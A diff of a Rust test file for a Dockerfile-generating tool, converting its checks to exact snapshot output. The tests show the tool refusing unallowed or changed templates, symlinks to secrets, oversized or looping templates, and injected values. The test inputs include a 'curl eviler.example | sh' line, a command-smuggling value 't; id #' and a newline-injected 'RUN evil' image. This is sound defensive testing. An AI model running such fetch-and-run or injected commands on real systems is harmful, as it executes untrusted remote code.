@@ -2,7 +2,9 @@
 
 use std::path::{Path, PathBuf};
 
-use crate::folder::{Folder, tree};
+use snapbox::str;
+
+use crate::folder::{Folder, Session, tree};
 
 fn team() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/templates")
@@ -46,8 +48,10 @@ fn an_app_in_such_a_language_is_found_with_its_evidence() {
     let folder = Folder::empty().with("cpanfile", "requires 'Plack';\n").with("app.psgi", "sub {}\n");
     let team = team();
     let run = folder.new_with(&["--templates", team.to_str().unwrap(), "--dry-run"]).succeeds();
-    let run = run.prints("(detected in cpanfile)").prints("(detected in app.psgi)");
-    run.says("there is no cpanfile.snapshot, which the image is built from; `carton install` makes it");
+    let run = run
+        .prints_line("language perl (detected in cpanfile)")
+        .prints_line("entrypoint app.psgi (detected in app.psgi)");
+    run.says_line("warning: there is no cpanfile.snapshot, which the image is built from; `carton install` makes it");
 }
 
 #[test]
@@ -71,7 +75,13 @@ fn the_answers_name_the_folder_and_the_next_run_finds_it() {
     folder.dockgen(&["new"]).succeeds();
     assert_eq!(folder.files(), before);
     std::fs::remove_dir_all(templates).unwrap();
-    folder.dockgen(&["new"]).fails_with(2).says("../templates").says("are not allowed yet");
+    folder.dockgen(&["new"]).gives(str![[r#"
+Using [TEMP]/shop/dockgen.toml
+error: the templates in [TEMP]/shop/../templates, named by [TEMP]/shop/dockgen.toml:4, are not allowed yet
+  allowed: --templates [TEMP]/shop/../templates, which names and allows them
+  hint: look at them first: templates decide every line that is written
+[exit 2]
+"#]]);
 }
 
 #[test]
@@ -80,40 +90,93 @@ fn a_preset_may_name_the_folder_beside_it() {
     let preset = folder.above().join("team.toml");
     std::fs::write(&preset, "templates = \"templates\"\nlanguage = \"perl\"\n").unwrap();
     folder.dockgen(&["preset", "check", "../team.toml"]).succeeds();
-    folder.dockgen(&["preset", "show", "../team.toml"]).succeeds().prints("carton");
+    folder
+        .dockgen(&["preset", "show", "../team.toml"])
+        .succeeds()
+        .prints_line("package-manager carton (default of Perl)");
     folder.new_with(&["--preset", "../team.toml"]).succeeds();
     // The preset that is extended names it already.
     assert!(!folder.read("dockgen.toml").contains("templates ="));
-    folder.dockgen(&["new"]).succeeds().says("unchanged");
+    folder.dockgen(&["new"]).succeeds().says_line("8 files unchanged");
 }
 
 #[test]
 fn the_list_of_languages_has_the_teams_too() {
     let folder = Folder::empty();
     let team = team();
-    let run = folder.dockgen(&["languages", "--templates", team.to_str().unwrap()]).succeeds();
-    run.prints("perl").prints("carton").prints("python");
+    folder.dockgen(&["languages", "--templates", team.to_str().unwrap()]).gives(str![[r#"
+stdout:
+language  framework                   versions                  variants                     package managers                           port
+bun       bun                         1                         slim full alpine distroless  bun                                        3000
+deno      deno                        2.9                       slim full alpine distroless  deno                                       8000
+dotnet    aspnet                      10 9                      slim full alpine chiseled    nuget                                      8080
+elixir    otp phoenix                 1.19 1.20 1.18 1.17 1.16  slim full alpine             mix                                        4000
+go        net-http                    1.26 1.27                 slim full alpine distroless  modules vendor workspace                   8080
+java      spring-boot                 25 21 17                  slim full alpine distroless  maven maven-wrapper gradle gradle-wrapper  8080
+node      express express-typescript  26 24 22                  slim full alpine distroless  npm pnpm yarn yarn-classic bun             8000
+perl      mojo                        5.44                      slim                         carton                                     3000
+php       plain laravel symfony       8.5 8.4 8.3 8.2           slim full alpine             composer                                   8080
+python    flask fastapi               3.14 3.13 3.12 3.11 3.10  slim full alpine             pip uv poetry pipenv pdm                   8000
+ruby      sinatra rails               3.4 4.0 3.3               slim full alpine             bundler                                    3000
+rust      axum                        1.98                      slim full alpine distroless  cargo                                      8080
+static    nginx                       1.30 1.31                 slim full alpine                                                        8080
+
+The first of each is the default.
+[exit 0]
+"#]]);
     let run = folder.dockgen(&["languages", "--images", "--templates", team.to_str().unwrap()]).succeeds();
-    run.prints("perl:5.44.0-slim-trixie\n");
+    run.prints_line("perl:5.44.0-slim-trixie");
 }
 
-/// Each mistake, and what is said of it, with the file that it is in.
 #[test]
 fn a_mistake_in_a_template_is_told_with_its_file_and_writes_nothing() {
-    for (path, text, told) in [
-        ("perl/language.toml", "title = \"Perl\"\n", "missing field `framework`"),
-        ("perl/language.toml", "titel = \"Perl\"\n", "unknown field `titel`"),
-        ("perl/Dockerfile.tera", "FROM {= image.biuld =}\n", "biuld"),
-        ("perl/Dockerfile.tera", "FROM {= image.build\n", "Dockerfile.tera"),
-        ("perl/package-managers/carton.tera", "{% if %}", "carton.tera"),
-        ("perl/mojo/starter/app.pl.tera", "{= nmae =}", "nmae"),
-    ] {
+    let mistakes = [
+        ("perl/language.toml", "title = \"Perl\"\n"),
+        ("perl/language.toml", "titel = \"Perl\"\n"),
+        ("perl/Dockerfile.tera", "FROM {= image.biuld =}\n"),
+        ("perl/Dockerfile.tera", "FROM {= image.build\n"),
+        ("perl/package-managers/carton.tera", "{% if %}"),
+        ("perl/mojo/starter/app.pl.tera", "{= nmae =}"),
+    ];
+    let runs = mistakes.into_iter().map(|(path, text)| {
         let (folder, templates) = beside_templates();
         write(&templates, path, text);
         let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
-        run.says(told).says(path).does_not_say("please report").does_not_say("\u{fffd}");
         assert!(folder.files().is_empty(), "{path}: {text}");
-    }
+        run.titled(&format!("{path}: {text:?}"))
+    });
+    runs.collect::<Session>().gives(str![[r#"
+$ perl/language.toml: "title = \"Perl\"\n"
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/language.toml: TOML parse error at line 1, column 1 missing field `framework`
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/language.toml: "titel = \"Perl\"\n"
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/language.toml: TOML parse error at line 1, column 1 unknown field `titel`, expected one of `title`, `framework`, `port`, `init`, `takes_services`, `has_metrics`, `reviewed`, `versions`, `variables`, `variants`, `images`, `package_managers`, `project`, `frameworks`
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/Dockerfile.tera: "FROM {= image.biuld =}\n"
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/Dockerfile.tera: error: Field `biuld` is not defined. Available fields: build, runtime --> perl/Dockerfile.tera:1:15
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/Dockerfile.tera: "FROM {= image.build\n"
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/Dockerfile.tera: error: Unexpected end of input --> perl/Dockerfile.tera:1:20
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/package-managers/carton.tera: "{% if %}"
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/package-managers/carton.tera: error: Found `%}` but expected one of: integer, float, string, bool, ident, `-`, `not`, `<`, `{`, `[` or `(` --> perl/package-managers/carton.tera:1:7
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/mojo/starter/app.pl.tera: "{= nmae =}"
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/mojo/starter/app.pl.tera: error: Variable `nmae` is not defined. Available variables: annotations, answers_live, build_secret, builders, ci, compose_variables, drain_seconds, ecosystem, entrypoint, extra_ids, extras, framework, health, image, images, init, labels, language, limits, live_path, manifest, metrics_path, name, networks, package_manager, platforms, port, registry, registry_host, replicas, restart, scanner, secrets, services, stop_seconds, stop_timeout, test_command, test_folder, updates, user, variables, variant, version, volumes, wire, workers --> perl/mojo/starter/app.pl.tera:1:4
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+"#]]);
 }
 
 #[test]
@@ -121,33 +184,46 @@ fn what_a_language_says_has_to_go_together() {
     let (folder, templates) = beside_templates();
     let text = tree(&templates)["perl/language.toml"].replace("default = true\n", "");
     write(&templates, "perl/language.toml", &text.replace("framework = \"mojo\"", "framework = \"dancer\""));
-    let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
-    run.says("0 of `versions` have `default = true`")
-        .says("0 of `variants` have")
-        .says("`framework` names dancer, and there is no dancer/framework.toml");
+    folder.new_with(&["--templates", "../templates", "--language", "perl"]).gives(str![[r#"
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/language.toml: 0 of `versions` have `default = true`, and one has to; 0 of `variants` have `default = true`, and one has to; `framework` names dancer, and there is no dancer/framework.toml
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+"#]]);
 }
 
 #[test]
 fn a_language_that_lacks_a_template_is_told() {
     let (folder, templates) = beside_templates();
     std::fs::remove_file(templates.join("perl/dockerignore.tera")).unwrap();
-    let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
-    run.says("perl/dockerignore.tera").says("no folder has it");
+    folder.new_with(&["--templates", "../templates", "--language", "perl"]).gives(str![[r#"
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/dockerignore.tera: no folder has it
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+"#]]);
 }
 
 #[test]
 fn a_folder_that_cannot_be_used_is_told() {
     let folder = Folder::empty().with("file", "x");
-    folder
-        .new_with(&["--templates", "nowhere", "--language", "go"])
-        .fails_with(2)
-        .says("nowhere")
-        .says("it is no folder");
-    folder.new_with(&["--templates", "file", "--language", "go"]).fails_with(2).says("it is no folder");
+    folder.new_with(&["--templates", "nowhere", "--language", "go"]).gives(str![[r#"
+error: cannot use the templates in nowhere: it is no folder
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+"#]]);
+    folder.new_with(&["--templates", "file", "--language", "go"]).gives(str![[r#"
+error: cannot use the templates in file: it is no folder
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+"#]]);
     let (folder, templates) = beside_templates();
     std::fs::write(templates.join("perl/mojo/starter/logo.png"), b"\x89PNG\xff\xfe").unwrap();
-    let run = folder.new_with(&["--templates", "../templates", "--language", "go"]).fails_with(2);
-    run.says("logo.png").says("it is not UTF-8");
+    folder.new_with(&["--templates", "../templates", "--language", "go"]).gives(str![[r#"
+error: cannot use the templates in ../templates/perl/mojo/starter/logo.png: it is not UTF-8 from byte 0 on
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+"#]]);
 }
 
 /// A repository whose `dockgen.toml` names templates that it brings along.
@@ -162,17 +238,54 @@ fn hostile_repository() -> Folder {
 fn templates_that_nobody_named_are_used_only_when_they_are_allowed() {
     let folder = hostile_repository();
     let before = folder.files();
-    for more in [&[][..], &["--dry-run"], &["--diff"], &["--json"], &["--quiet"]] {
-        let run = folder.new_with(more).fails_with(2);
-        run.says("ci, named by ").says("dockgen.toml:1, are not allowed yet").says("--templates ");
-    }
+    let runs = [&[][..], &["--dry-run"], &["--diff"], &["--json"], &["--quiet"]];
+    runs.into_iter().map(|more| folder.new_with(more)).collect::<Session>().gives(str![[r#"
+$ dockgen new --yes
+Using [TEMP]/shop/dockgen.toml
+error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
+  allowed: --templates [TEMP]/shop/ci, which names and allows them
+  hint: look at them first: templates decide every line that is written
+[exit 2]
+$ dockgen new --yes --dry-run
+Using [TEMP]/shop/dockgen.toml
+error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
+  allowed: --templates [TEMP]/shop/ci, which names and allows them
+  hint: look at them first: templates decide every line that is written
+[exit 2]
+$ dockgen new --yes --diff
+Using [TEMP]/shop/dockgen.toml
+error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
+  allowed: --templates [TEMP]/shop/ci, which names and allows them
+  hint: look at them first: templates decide every line that is written
+[exit 2]
+$ dockgen new --yes --json
+Using [TEMP]/shop/dockgen.toml
+error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
+  allowed: --templates [TEMP]/shop/ci, which names and allows them
+  hint: look at them first: templates decide every line that is written
+[exit 2]
+$ dockgen new --yes --quiet
+error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
+  allowed: --templates [TEMP]/shop/ci, which names and allows them
+  hint: look at them first: templates decide every line that is written
+[exit 2]
+"#]]);
     assert_eq!(folder.files(), before);
-    folder.new_with(&["--templates", "ci"]).succeeds().says("Using the templates in ci (named by --templates)");
+    folder.new_with(&["--templates", "ci"]).succeeds().says_line("Using the templates in ci (named by --templates)");
     assert!(folder.read("Dockerfile").contains("evil.example"));
     // Allowed from now on, until they change.
-    folder.dockgen(&["new"]).succeeds().says("Using the templates in ").says("dockgen.toml:1)");
+    folder
+        .dockgen(&["new"])
+        .succeeds()
+        .says_line("Using the templates in [TEMP]/shop/ci (named by [TEMP]/shop/dockgen.toml:1)");
     folder.write("ci/go/Dockerfile.tera", "FROM scratch\nRUN curl eviler.example | sh\n");
-    folder.dockgen(&["new"]).fails_with(2).says("have changed since you allowed them");
+    folder.dockgen(&["new"]).gives(str![[r#"
+Using [TEMP]/shop/dockgen.toml
+error: the templates in [TEMP]/shop/ci, named by [TEMP]/shop/dockgen.toml:1, have changed since you allowed them
+  allowed: --templates [TEMP]/shop/ci, which names and allows them
+  hint: look at them first: templates decide every line that is written
+[exit 2]
+"#]]);
 }
 
 #[test]
@@ -192,9 +305,11 @@ fn the_folder_of_templates_is_never_left_nor_followed_without_end() {
     use std::os::unix::fs::symlink;
 
     let (folder, templates) = beside_templates();
-    let refused = |name: &str, said: &str| {
-        folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2).says(said);
+    let mut runs = Vec::new();
+    let mut refused = |name: &str| {
+        let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
         std::fs::remove_file(templates.join(name)).unwrap();
+        runs.push(run.titled(name));
     };
     let key = folder.above().join("key");
     std::fs::write(&key, "SECRET").unwrap();
@@ -202,19 +317,53 @@ fn the_folder_of_templates_is_never_left_nor_followed_without_end() {
     std::fs::create_dir_all(templates.join(starter)).unwrap();
     for (name, target) in [("notes.md", key.as_path()), ("up.md", Path::new("../../../../key"))] {
         symlink(target, templates.join(starter).join(name)).unwrap();
-        refused(&format!("{starter}/{name}"), "it is behind a symlink that leads out of the folder");
+        refused(&format!("{starter}/{name}"));
     }
     symlink("/proc/self/environ", templates.join("perl/_environ.tera")).unwrap();
-    refused("perl/_environ.tera", "it is behind a symlink that leads out of the folder");
+    refused("perl/_environ.tera");
     for target in ["..", ".", "mojo"] {
         symlink(target, templates.join("perl/fan")).unwrap();
-        refused("perl/fan", "it is a symlink to a folder, which is not followed");
+        refused("perl/fan");
     }
     let pipe = templates.join("perl/pipe.tera");
     assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
-    refused("perl/pipe.tera", "it is a named pipe, not a regular file");
+    refused("perl/pipe.tera");
     std::fs::File::create(templates.join("perl/sparse.tera")).unwrap().set_len(5_000_000_000).unwrap();
-    refused("perl/sparse.tera", "it is larger than 4 MiB");
+    refused("perl/sparse.tera");
+    runs.into_iter().collect::<Session>().gives(str![[r#"
+$ perl/mojolicious/starter/notes.md
+error: cannot use the templates in ../templates/perl/mojolicious/starter/notes.md: it is behind a symlink that leads out of the folder
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/mojolicious/starter/up.md
+error: cannot use the templates in ../templates/perl/mojolicious/starter/up.md: it is behind a symlink that leads out of the folder
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/_environ.tera
+error: cannot use the templates in ../templates/perl/_environ.tera: it is behind a symlink that leads out of the folder
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/fan
+error: cannot use the templates in ../templates/perl/fan: it is a symlink to a folder, which is not followed
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/fan
+error: cannot use the templates in ../templates/perl/fan: it is a symlink to a folder, which is not followed
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/fan
+error: cannot use the templates in ../templates/perl/fan: it is a symlink to a folder, which is not followed
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/pipe.tera
+error: cannot use the templates in ../templates/perl/pipe.tera: it is a named pipe, not a regular file
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ perl/sparse.tera
+error: cannot use the templates in ../templates/perl/sparse.tera: it is larger than 4 MiB
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+"#]]);
 }
 
 #[test]
@@ -236,24 +385,52 @@ fn a_sign_of_a_language_is_looked_for_below_the_project_alone() {
 /// Each would take all time or all memory, or the stack.
 #[test]
 fn what_templates_take_is_bounded() {
-    let bound = "rendering them takes more than 5 s or 1024 MiB of memory";
     let (loops, ends) = ("{% for a in range(end=10) %}".repeat(12), "{% endfor %}".repeat(12));
     let doubled = format!("{{% set a = \"aaaaaaaa\" %}}{}", "{% set a = a ~ a %}".repeat(60));
     let written = format!("{{% set a = \"aaaaaaaa\" %}}{}{{= a =}}", "{% set a = a ~ a %}".repeat(24));
     let nested = format!("{{= {}1{} =}}", "(".repeat(200_000), ")".repeat(200_000));
-    for (text, told) in [
-        (format!("{loops}{ends}"), bound),
-        (doubled, bound),
-        (written, bound),
-        (nested, ""),
-        ("{% include \"perl/Dockerfile.tera\" %}".to_owned(), ""),
-    ] {
+    let itself = "{% include \"perl/Dockerfile.tera\" %}".to_owned();
+    let texts = [
+        ("loops in loops", format!("{loops}{ends}")),
+        ("a text that doubles", doubled),
+        ("a long text that is written", written),
+        ("many brackets", nested),
+        ("a template that includes itself", itself),
+    ];
+    let runs = texts.into_iter().map(|(title, text)| {
         let (folder, templates) = beside_templates();
         write(&templates, "perl/Dockerfile.tera", &text);
         let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2);
-        run.says("cannot use the templates in ../templates").says(told);
         assert!(folder.files().is_empty());
-    }
+        run.titled(title)
+    });
+    runs.collect::<Session>().gives(str![[r#"
+$ loops in loops
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates: rendering them takes more than 5 s or 1024 MiB of memory
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ a text that doubles
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates: rendering them takes more than 5 s or 1024 MiB of memory
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ a long text that is written
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates: rendering them takes more than 5 s or 1024 MiB of memory
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ many brackets
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/Dockerfile.tera: error: The expression is too complex --> perl/Dockerfile.tera:1:43
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ a template that includes itself
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/Dockerfile.tera: Circular include detected for template 'perl/Dockerfile.tera'. Include chain: `["perl/Dockerfile.tera", "perl/Dockerfile.tera"]`
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+"#]]);
 }
 
 #[test]
@@ -262,14 +439,25 @@ fn before_templates_are_allowed_nothing_in_their_folder_is_looked_at() {
     let keys = folder.above().join("keys/deep");
     std::fs::create_dir_all(&keys).unwrap();
     std::fs::write(keys.join("prod-root.key"), b"\xff\xfe").unwrap();
-    let run = folder.new_with(&["--language", "go"]).fails_with(2);
-    run.says("are not allowed yet").does_not_say("prod-root");
+    folder.new_with(&["--language", "go"]).gives(str![[r#"
+Using [TEMP]/shop/dockgen.toml
+error: the templates in [TEMP]/shop/../keys, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
+  allowed: --templates [TEMP]/shop/../keys, which names and allows them
+  hint: look at them first: templates decide every line that is written
+[exit 2]
+"#]]);
 }
 
 #[test]
 fn a_flag_to_copy_is_quoted_for_the_shell() {
     let folder = Folder::empty().with("dockgen.toml", "templates = \"t; id #\"\n");
-    folder.new_with(&["--language", "go"]).fails_with(2).says("allowed: --templates '").says("t; id #', which names");
+    folder.new_with(&["--language", "go"]).gives(str![[r#"
+Using [TEMP]/shop/dockgen.toml
+error: the templates in [TEMP]/shop/t; id #, named by [TEMP]/shop/dockgen.toml:1, are not allowed yet
+  allowed: --templates '[TEMP]/shop/t; id #', which names and allows them
+  hint: look at them first: templates decide every line that is written
+[exit 2]
+"#]]);
 }
 
 /// The files are written by then.
@@ -280,7 +468,7 @@ fn what_cannot_be_remembered_is_a_warning() {
     std::fs::create_dir_all(folder.above().join("settings/dockgen")).unwrap();
     std::os::unix::fs::symlink("/dev/zero", folder.above().join("settings/dockgen/allowed.toml")).unwrap();
     let run = folder.new_with(&["--templates", team().to_str().unwrap(), "--language", "go"]).succeeds();
-    run.says("warning: cannot remember what you allowed: ").says("Next:");
+    run.says_line("warning: cannot remember what you allowed: cannot use [TEMP]/settings/dockgen/allowed.toml: it is a device, not a regular file").says_line("Next:");
 }
 
 /// A language's data would be written out, or looked up, without end.
@@ -288,30 +476,78 @@ fn what_cannot_be_remembered_is_a_warning() {
 fn a_language_has_bounds() {
     let (folder, templates) = beside_templates();
     let toml = std::fs::read_to_string(templates.join("perl/language.toml")).unwrap();
-    let refused = |toml: &str, said: &str| {
+    let refused = |title: &str, toml: &str| {
         write(&templates, "perl/language.toml", toml);
-        folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2).says(said);
+        folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2).titled(title)
     };
-    refused(&toml.replace("patch = \"5.44.0\"", &format!("patch = \"{}\"", "9".repeat(100_000))), "is no version");
-    refused(&toml.replace("perl:{patch}", &"{patch}".repeat(30_000)), "is no image");
-    refused(&toml.replace("perl:{patch}", "perl\\nRUN evil"), "is no image");
+    let long = "9".repeat(100_000);
     let sources: Vec<String> = (0..3000).map(|number| format!("\"x{number}\"")).collect();
     let many = toml.replacen("[project]\n", &format!("[project]\nsources = [{}]\n", sources.join(", ")), 1);
-    refused(&many, "`project.sources` has 3000 entries, and at most 100 are allowed");
+    let runs = [
+        refused("a long version", &toml.replace("patch = \"5.44.0\"", &format!("patch = \"{long}\""))),
+        refused("a long image", &toml.replace("perl:{patch}", &"{patch}".repeat(30_000))),
+        refused("an image with lines", &toml.replace("perl:{patch}", "perl\\nRUN evil")),
+        refused("many sources", &many),
+    ];
+    runs.into_iter().collect::<Session>().gives(str![[r#"
+$ a long version
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/language.toml: `99999999999999999999999999999999999999999999999999999999999999999999999999999999…` is no version
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ a long image
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/language.toml: `{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{pa…` is no image; `{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{patch}{pa…` is no image
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ an image with lines
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/language.toml: `perl�RUN evil-trixie` is no image; `perl�RUN evil-slim-trixie` is no image
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+$ many sources
+Using the templates in ../templates (named by --templates)
+error: cannot use the templates in ../templates/perl/language.toml: `project.sources` has 3000 entries, and at most 100 are allowed
+  allowed: a folder as CONTRIBUTING.md tells under `Add a language`: a folder for each language, with its language.toml and its templates
+[exit 2]
+"#]]);
 }
 
 #[test]
 fn templates_whose_files_clash_are_refused() {
-    for (name, said) in [
-        ("dockgen.toml", "`dockgen.toml` is written by two templates"),
-        ("Dockerfile", "`Dockerfile` is written by two templates"),
-        ("Dockerfile/x", "`Dockerfile/x` lies below another file"),
-        (".tera", "`` is not the path of a file"),
-        (".dockgen-staging/0", "is in the folder where dockgen stages new files"),
-    ] {
+    let names = ["dockgen.toml", "Dockerfile", "Dockerfile/x", ".tera", ".dockgen-staging/0"];
+    let runs = names.into_iter().map(|name| {
         let (folder, templates) = beside_templates();
         write(&templates, &format!("perl/mojo/starter/{name}"), "text\n");
-        folder.new_with(&["--templates", "../templates", "--language", "perl"]).fails_with(2).says(said);
+        let run = folder.new_with(&["--templates", "../templates", "--language", "perl"]);
         assert!(folder.files().is_empty());
-    }
+        run.titled(&format!("a starter's file {name}"))
+    });
+    runs.collect::<Session>().gives(str![[r#"
+$ a starter's file dockgen.toml
+Using the templates in ../templates (named by --templates)
+error: `dockgen.toml` is written by two templates, so nothing is written there
+  allowed: a place below the project's folder, outside .git
+[exit 2]
+$ a starter's file Dockerfile
+Using the templates in ../templates (named by --templates)
+error: `Dockerfile` is written by two templates, so nothing is written there
+  allowed: a place below the project's folder, outside .git
+[exit 2]
+$ a starter's file Dockerfile/x
+Using the templates in ../templates (named by --templates)
+error: `Dockerfile/x` lies below another file, so nothing is written there
+  allowed: a place below the project's folder, outside .git
+[exit 2]
+$ a starter's file .tera
+Using the templates in ../templates (named by --templates)
+error: `` is not the path of a file, so nothing is written there
+  allowed: a place below the project's folder, outside .git
+[exit 2]
+$ a starter's file .dockgen-staging/0
+Using the templates in ../templates (named by --templates)
+error: `.dockgen-staging/0` is in the folder where dockgen stages new files, so nothing is written there
+  allowed: a place below the project's folder, outside .git
+[exit 2]
+"#]]);
 }
